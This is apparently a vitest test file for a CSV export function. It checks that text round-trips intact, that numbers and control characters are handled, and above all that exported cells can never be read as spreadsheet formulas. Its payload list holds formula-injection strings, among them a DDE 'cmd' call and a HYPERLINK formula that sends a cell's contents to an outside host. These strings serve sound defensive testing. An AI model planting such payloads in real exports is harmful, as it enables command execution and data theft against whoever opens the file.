import { describe, expect, test } from 'vitest'
import { toCsv } from './csv.ts'
import { readCsv } from './testing.ts'

test.each([
  'Ada Lovelace',
  'Lovelace, Ada',
  'the "great"',
  'two\nlines',
  'old\r\nlines',
  ';\t|',
  "O'Neill-Smith",
  'a - b = c',
  'x@example.com',
  'שלום ‮ عَلَيْكُم',
  '😀 Zoë',
  ' spaces ',
  '',
])('a harmless text comes back as it was: %j', text => {
  expect(readCsv(toCsv([[text, 'next', text]]))).toEqual([[text, 'next', text]])
})

test('numbers stay numbers, also negative ones; what is not known is empty', () => {
  expect(toCsv([[-1, 0.5, 1e-7, -0, Number.NaN, Infinity, null, true]])).toBe('-1,0.5,1e-7,0,,,,true\n')
})

/** What a spreadsheet would compute: it skips what can't be seen. */
const isFormula = (cell: string): boolean => /^[\s"\p{C}]*[=+\-@\u2212＝＋－＠]/u.test(cell)

describe('nothing is a formula', () => {
  const payloads = [
    "=cmd|' /C calc'!A0",
    '+1+1',
    '-2+3+cmd|"/C calc"!A0',
    '@SUM(1+1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    ' =1+1',
    '\u00a0=1+1',
    '"=1+1',
    '"",=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(1)',
    '−1',
    '\ufeff=1+1',
    '\u200b\u202e=1+1',
    '\u0000=1+1',
    '\ud800=1+1',
    '==1',
    "'=1",
    '=HYPERLINK("http://x/?"&A1,"grade")',
  ]
  const hidden = payloads.flatMap(one => [`a;${one}`, `a,${one}`, `a\t${one}`, `a\n${one}`, `a";${one}`])

  test.each([...payloads, ...hidden].map(one => [JSON.stringify(one), one]))('of %s', (_, payload) => {
    const csv = toCsv([
      ['ada', payload, 3],
      [payload, 'x', -3],
    ])
    const [first, second] = readCsv(csv)
    expect([first, second].map(row => row.length)).toEqual([3, 3])
    const texts = [first[0], first[1], second[0], second[1]]
    expect(texts.filter(text => isFormula(text) || /^[\t\r\n]/.test(text))).toEqual([])
    expect([first[2], second[2]]).toEqual(['3', '-3'])
  })

  test.each([...payloads, ...hidden].map(one => [JSON.stringify(one), one]))(
    'of %s where cells end at semicolons, or at tabs',
    (_, payload) => {
      const csv = toCsv([
        ['ada', payload, 3],
        [payload, 'x', -3],
      ])
      for (const separator of [';', '\t'])
        expect(readCsv(csv, separator).flat().filter(isFormula)).toEqual([])
      // Nor where quotes mean nothing.
      for (const cell of csv.split(/[,;\t\n]/)) if (cell !== '-3') expect(isFormula(cell)).toBe(false)
    },
  )
})

test('control characters and half a surrogate pair are no text', () => {
  expect(toCsv([['a\u0000b\u001bc\ud800d\u007f']])).toBe('a\ufffdb\ufffdc\ufffdd\ufffd\n')
})

test('a text is not longer than a cell of a spreadsheet', () => {
  expect(toCsv([['x'.repeat(100_000)]])).toHaveLength(32_767 + 1)
})

test('a text made of what stands between cells takes no longer than any other', () => {
  const since = performance.now()
  toCsv([[`${'"'.repeat(30_000)}x`, ' '.repeat(30_000), `${';'.repeat(30_000)}x`]])
  expect(performance.now() - since).toBeLessThan(1000)
})
